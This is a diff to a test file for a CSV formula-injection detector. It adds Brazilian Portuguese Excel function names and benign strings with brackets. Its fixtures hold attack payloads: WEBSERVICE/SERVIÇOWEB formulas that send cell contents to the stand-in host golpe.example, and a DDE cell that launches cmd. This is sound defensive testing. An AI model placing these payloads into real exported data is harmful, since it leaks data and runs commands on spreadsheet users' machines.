@@ -42,6 +42,13 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a remote call followed by a word', 'pedido;link\n1062;+WEBSERVICE("http://golpe.example/?c="&B2) x\n'],
     ['a function in capitals closing the cell', 'pedido;total\n1063;-SUM(A1:A3)\n'],
     ['a function in capitals, nested, then an operator', 'pedido;total\n1064;+ROUND(SUM(A1:A3),2)*2\n'],
+    // Excel in pt-BR reads its own names in a CSV it opens.
+    ['a pt-BR remote call in capitals', 'pedido;cliente\n1066;-SERVIÇOWEB("http://golpe.example/?c="&B2)\n'],
+    [
+      'a pt-BR remote call in lower case after a space',
+      'pedido;cliente\n1067;- serviçoweb("http://golpe.example/?c="&B2)\n',
+    ],
+    ['a pt-BR XML filter in lower case', 'pedido;cliente\n1068;+filtroxml(A1;"//a")\n'],
     ['a DDE link in lower case after an at sign', "pedido;valor\n1065;@cmd|' /C calc'!A0\n"],
   ])('%s', (_name, text) => {
     expect(csvHasFormula(text)).toBe(true);
@@ -69,6 +76,10 @@ describe('csvHasFormula: cells a spreadsheet would run', () => {
     ['a dash stuck to a word with brackets', 'status\n-cancelado(a) pelo cliente\n'],
     ['a plus stuck to a brand with brackets', 'marca\n+Vida(Natural)\n'],
     ['a handle with brackets', 'loja\n@loja(oficial)\n'],
+    [
+      'a list with accented words and brackets',
+      'pedido;itens\n1;- opção(ões) esgotada(s)\n2;- 2 imagem(ns) anexada(s)\n',
+    ],
     ['a list in capitals', 'pedido;itens\n1;- PRODUTO(S) SEM ESTOQUE\n2;+ BRINDE(S) NA CAIXA\n3;-CAMISETA(P) AZUL\n'],
     ['a quoted list with brackets and separators', 'pedido;nota\n88;"- produto(s) sem estoque; aguardando"\n'],
     ['a tab-separated list with brackets', 'pedido\tvalor\tobs\n1\t-19,90\t- produto(s) sem estoque\n'],
